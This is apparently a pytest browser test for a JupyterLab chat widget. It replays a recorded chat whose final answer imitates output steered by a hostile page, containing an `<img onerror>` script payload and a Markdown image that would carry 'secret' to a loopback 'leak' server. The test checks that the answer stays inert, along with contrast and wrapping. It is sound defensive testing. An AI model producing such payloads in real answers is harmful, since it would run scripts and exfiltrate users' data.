"""A Chat's steps and a hostile answer in a real JupyterLab, in headless Chromium (tests/browserlab.py;
skipped, saying what is missing, without playwright, jupyterlab or chromium).

The notebook replays a Chat offline (a cassette recorded here against tests/recorded_model.py): one
tool call that fails, then an answer a hostile page could have steered (`<img src=x onerror=...>` and
a Markdown image of a loopback "leak" server's URL). Checked: the step's header, error label and text
at least 4.5:1 against their actual background in Light and Dark; the step text wraps between words
only; the answer shown once though `chat(...)` is the cell's last line; no script ran, no <img> in the
answer, and the leak server received nothing (and does record a request sent to it).
"""

from __future__ import annotations

import linecache
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest

from browserlab import ROOT, background, contrast, needs_browser, open_and_run, over, rgba, written

pytestmark = needs_browser

# The Chat notebook: one tool that fails (its error shown in the step view, long enough to wrap) and a
# final answer a hostile page could have steered: HTML with a script and a Markdown image carrying data out.
CHAT_TOOL = '''def lookup(name: str) -> str:
    "Look a report up by its name."
    raise ValueError("no report named " + name + " in the archive; Supercalifragilisticexpialidocious " * 3)
'''
ANSWER_MARK = "Answer-mark-7f3"
LONG_WORD = "Supercalifragilisticexpialidocious"
CHAT_SETUP = "Chat(nbtools.replay('chat.cassette.json'), model='test-model', tools=[lookup], system='Be brief.')"
QUESTION = "Look up the q3 report."


def chat_notebook(folder: Path, leak_port: int) -> Path:
    """A cassette recorded here against a loopback model (tests/recorded_model.py), and a notebook
    that replays it (no network): the step view, then the hostile answer from the cell's last line."""
    sys.path.insert(0, str(ROOT / "tests"))
    import openai
    from nbtools import Chat
    from recorded_model import RecordedModel, openai_reply

    hostile = (f'{ANSWER_MARK}. <img src=x onerror="window.nbtoolsPwned = 1"> '
               f'![x](http://127.0.0.1:{leak_port}/leak?d=secret)')
    tool: dict = {}
    # The tool's error names its line with the line's text, as from the notebook's cell (linecache)
    linecache.cache["<chat-tool>"] = (len(CHAT_TOOL), None, CHAT_TOOL.splitlines(keepends=True), "<chat-tool>")
    exec(compile(CHAT_TOOL, "<chat-tool>", "exec"), tool)
    with RecordedModel([(200, openai_reply([("call_1", "lookup", {"name": "q3"})])),
                        (200, openai_reply(text=hostile))]) as model:
        chat = Chat(openai.OpenAI(api_key="sk-test", base_url=f"{model.url}/v1", max_retries=0), model="test-model",
                    tools=[tool["lookup"]], system="Be brief.", record=folder / "chat.cassette.json", show=False)
        assert chat(QUESTION) == hostile
    cells = [nbformat.v4.new_code_cell(CHAT_TOOL.rstrip("\n")),  # its own cell: the error names the same line
             nbformat.v4.new_code_cell(f"import nbtools\nfrom nbtools import Chat\n\nchat = {CHAT_SETUP}"),
             nbformat.v4.new_code_cell(f"chat({QUESTION!r})")]
    return written(folder / "chat.ipynb", cells)


@pytest.fixture(scope="module")
def leak():
    """A loopback HTTP server that keeps the path of every request it gets (nothing should reach it)."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


def test_chat_steps_and_a_hostile_answer_in_jupyterlab(lab, leak, browser):
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    try:
        _check_chat(page, lab.url(chat_notebook(lab.folder, leak[0]).name), leak)
    finally:
        page.close()



def _check_chat(page, url: str, leak) -> None:
    """The Chat step view (contrast in both themes, words whole, the answer once) and the hostile answer inert."""
    leak_port, leak_seen = leak
    app = "window.jupyterapp"
    open_and_run(page, url)
    page.wait_for_selector(f".jp-OutputArea-output:has-text('{ANSWER_MARK}')", timeout=120_000)
    page.wait_for_selector(".nbtools-step", timeout=60_000)
    time.sleep(3)  # anything the answer could have triggered (an image load, an onerror) has had its chance
    # The answer is shown once, though `chat(...)` is the cell's last line.
    shown = page.evaluate(f"""() => [...document.querySelectorAll('.jp-OutputArea-output')]
        .filter(o => o.textContent.includes('{ANSWER_MARK}')).length""")
    assert shown == 1, f"the final answer is shown {shown} times"
    # The hostile answer is inert: no script ran, no <img> in it, nothing fetched from the leak server.
    inert = page.evaluate(f"""() => {{
        const answer = [...document.querySelectorAll('.jp-OutputArea-output')]
            .find(o => o.textContent.includes('{ANSWER_MARK}'));
        return {{pwned: window.nbtoolsPwned === undefined ? null : window.nbtoolsPwned,
                 images: answer.querySelectorAll('img').length,
                 anyImage: [...document.querySelectorAll('img')].map(i => i.src).filter(s => s.includes('leak') || s.endsWith('/x')),
                 text: answer.textContent,
                 links: [...answer.querySelectorAll('a')].map(a => a.href)}};
    }}""")
    assert inert["pwned"] is None, f"the answer's onerror ran: {inert}"
    assert inert["images"] == 0 and inert["anyImage"] == [], f"the answer made images: {inert}"
    assert '<img src=x onerror="window.nbtoolsPwned = 1">' in inert["text"], inert  # shown as text, not lost
    assert any(f"127.0.0.1:{leak_port}/leak" in link for link in inert["links"]), inert  # a link to click, at most
    assert leak_seen == [], f"the page fetched from the leak server: {leak_seen}"
    with socket.create_connection(("127.0.0.1", leak_port), timeout=5) as control:  # the server does record
        control.sendall(b"GET /control HTTP/1.0\r\n\r\n")
        control.recv(100)
    assert leak_seen == ["/control"], leak_seen
    # In both themes: the step's header, error label and text at least 4.5:1 against what is behind them.
    measured = {}
    for theme in ("JupyterLab Light", "JupyterLab Dark"):
        page.evaluate(f"{app}.commands.execute('apputils:change-theme', {{theme: '{theme}'}})")
        time.sleep(3)
        parts = page.evaluate("""() => {
            const step = document.querySelector('.nbtools-step');
            const label = [...step.querySelectorAll('div')].find(d => d.textContent.trim() === 'error:');
            const texts = [['step', step.querySelector('b')], ['error label', label], ['error text', step.querySelector('pre')]];
            return texts.map(([name, e]) => {
                const layers = [];
                for (let a = e; a; a = a.parentElement) layers.push(getComputedStyle(a).backgroundColor);
                return [name, getComputedStyle(e).color, layers];
            });
        }""")
        for name, colour, layers in parts:
            behind = background(layers)
            ratio = contrast(over(rgba(colour), behind), behind)
            measured[f"{theme}: {name}"] = round(ratio, 2)
        print("contrast", theme, {k: v for k, v in measured.items() if k.startswith(theme)})
        low = {name: ratio for name, ratio in measured.items() if ratio < 4.5}
        assert not low, f"contrast below 4.5:1: {low}"
    # No word broken inside: the step text wraps (several lines) but only between words.
    wrap = page.evaluate(f"""() => {{
        const pre = document.querySelector('.nbtools-step pre');
        const style = getComputedStyle(pre);
        const node = pre.firstChild;
        const lines = new Set();
        for (const r of pre.getClientRects()) lines.add(r.height);
        const split = [];
        let at = node.textContent.indexOf('{LONG_WORD}');
        while (at >= 0) {{
            const range = document.createRange();
            range.setStart(node, at);
            range.setEnd(node, at + {len(LONG_WORD)});
            const tops = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
            if (tops.size !== 1) split.push(at);
            at = node.textContent.indexOf('{LONG_WORD}', at + 1);
        }}
        const lineHeight = parseFloat(style.lineHeight) || parseFloat(style.fontSize) * 1.3;
        return {{wordBreak: style.wordBreak, overflowWrap: style.overflowWrap, split,
                 lines: Math.round(pre.getBoundingClientRect().height / lineHeight)}};
    }}""")
    assert wrap["wordBreak"] in ("normal", "keep-all") and wrap["overflowWrap"] in ("break-word", "anywhere"), wrap
    assert wrap["lines"] >= 2 and wrap["split"] == [], f"the step text: {wrap}"
